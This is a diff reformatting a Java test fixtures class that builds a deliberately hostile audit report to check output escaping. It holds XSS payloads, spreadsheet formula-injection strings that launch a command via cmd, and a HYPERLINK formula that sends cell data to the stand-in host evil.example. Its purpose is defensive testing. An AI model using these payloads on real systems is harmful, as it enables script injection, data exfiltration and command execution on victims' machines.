@@ -26,13 +26,26 @@ final class Fixtures {
     static final String SCRIPT = "<script>document.title='PWNED-script';alert(1)</script>";
     static final String IMG = "<img src=x onerror=\"document.title='PWNED-img';alert(1)\">";
     static final String TITLE_BREAKOUT = "</title><script>document.title='PWNED-title'</script>";
-    static final String ATTRIBUTE_BREAKOUT = "\" autofocus onfocus=\"document.title='PWNED-attr'\" x=\"";
+    static final String ATTRIBUTE_BREAKOUT =
+            "\" autofocus onfocus=\"document.title='PWNED-attr'\" x=\"";
     static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点此查看\")";
+
     /** Text a spreadsheet would take for a formula, one per dangerous first character. */
-    static final List<String> FORMULAS = List.of(HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1");
-    /** Every hostile text the hostile report carries, each of which must survive as visible text. */
-    static final List<String> PAYLOADS = List.of(SCRIPT, IMG, TITLE_BREAKOUT, ATTRIBUTE_BREAKOUT, HYPERLINK);
+    static final List<String> FORMULAS =
+            List.of(
+                    HYPERLINK,
+                    "+cmd|' /C calc'!A0",
+                    "-2+3+cmd|' /C calc'!A0",
+                    "@SUM(1+1)*cmd|' /C calc'!A0",
+                    "\t=1+1",
+                    "\r=1+1");
+
+    /**
+     * Every hostile text the hostile report carries, each of which must survive as visible text.
+     */
+    static final List<String> PAYLOADS =
+            List.of(SCRIPT, IMG, TITLE_BREAKOUT, ATTRIBUTE_BREAKOUT, HYPERLINK);
+
     /** The unit renamed to carry {@link #ATTRIBUTE_BREAKOUT}, so it lands in HTML attributes. */
     static final String RENAMED_UNIT = "人才开发科";
 
@@ -47,7 +60,8 @@ final class Fixtures {
 
     static AuditReport sample() {
         try {
-            return ReportReader.read(Path.of(Fixtures.class.getResource("fixtures/" + SAMPLE + ".json").toURI()));
+            return ReportReader.read(
+                    Path.of(Fixtures.class.getResource("fixtures/" + SAMPLE + ".json").toURI()));
         } catch (IOException e) {
             throw new UncheckedIOException(e);
         } catch (URISyntaxException e) {
@@ -76,7 +90,9 @@ final class Fixtures {
                 } else if (i == 0 && t.number() == FORMULAS.size() + 2) {
                     unitExplanation = IMG + "\n" + unitExplanation;
                 }
-                units.add(new UnitResult(rename.apply(u.unit()), u.state(), unitExplanation, unitIds));
+                units.add(
+                        new UnitResult(
+                                rename.apply(u.unit()), u.state(), unitExplanation, unitIds));
             }
             switch (t.number()) {
                 case 1 -> explanation = SCRIPT + ATTRIBUTE_BREAKOUT + explanation;
@@ -85,24 +101,65 @@ final class Fixtures {
                     explanation = HYPERLINK + explanation;
                     ids = prepend(HYPERLINK, ids);
                 }
-                default -> { }
+                default -> {}
             }
-            List<Finding> findings = t.findings().stream()
-                    .map(f -> new Finding(f.rule(), f.unit() == null ? null : rename.apply(f.unit()), f.outcome(),
-                            f.message() + IMG, prepend(SCRIPT, f.evidenceIds())))
-                    .toList();
-            tasks.add(new TaskResult(t.number(), t.content(), t.leadUnits(), t.responsibleUnits(), t.deadlineText(),
-                    t.dueDate(), t.deadline(), t.state(), explanation, ids, units, findings));
+            List<Finding> findings =
+                    t.findings().stream()
+                            .map(
+                                    f ->
+                                            new Finding(
+                                                    f.rule(),
+                                                    f.unit() == null
+                                                            ? null
+                                                            : rename.apply(f.unit()),
+                                                    f.outcome(),
+                                                    f.message() + IMG,
+                                                    prepend(SCRIPT, f.evidenceIds())))
+                            .toList();
+            tasks.add(
+                    new TaskResult(
+                            t.number(),
+                            t.content(),
+                            t.leadUnits(),
+                            t.responsibleUnits(),
+                            t.deadlineText(),
+                            t.dueDate(),
+                            t.deadline(),
+                            t.state(),
+                            explanation,
+                            ids,
+                            units,
+                            findings));
         }
-        return new AuditReport(r.schema(), r.tool(), r.organisation() + TITLE_BREAKOUT, r.auditYear(), r.asOf(),
-                r.catalogTitle() + IMG, r.units().stream().map(rename).toList(), r.summary(), tasks, r.manifest(),
-                List.of(new AuditReport.WaiverResult(SCRIPT, 24, unit, IMG, FORMULAS.get(1), r.asOf(), r.asOf(), "生效")),
+        return new AuditReport(
+                r.schema(),
+                r.tool(),
+                r.organisation() + TITLE_BREAKOUT,
+                r.auditYear(),
+                r.asOf(),
+                r.catalogTitle() + IMG,
+                r.units().stream().map(rename).toList(),
+                r.summary(),
+                tasks,
+                r.manifest(),
+                List.of(
+                        new AuditReport.WaiverResult(
+                                SCRIPT, 24, unit, IMG, FORMULAS.get(1), r.asOf(), r.asOf(), "生效")),
                 withUnplaced(r.statistics(), new AuditReport.UnplacedRecord(SCRIPT, IMG)));
     }
 
-    /** The tables with an application record they could not count: its id and reason are evidence-borne. */
-    private static AuditReport.AnnualTables withUnplaced(AuditReport.AnnualTables t, AuditReport.UnplacedRecord record) {
-        return new AuditReport.AnnualTables(t.reportYear(), t.layout(), t.basis(), t.decisions(), t.applications(),
+    /**
+     * The tables with an application record they could not count: its id and reason are
+     * evidence-borne.
+     */
+    private static AuditReport.AnnualTables withUnplaced(
+            AuditReport.AnnualTables t, AuditReport.UnplacedRecord record) {
+        return new AuditReport.AnnualTables(
+                t.reportYear(),
+                t.layout(),
+                t.basis(),
+                t.decisions(),
+                t.applications(),
                 List.of(record),
                 t.reviews());
     }
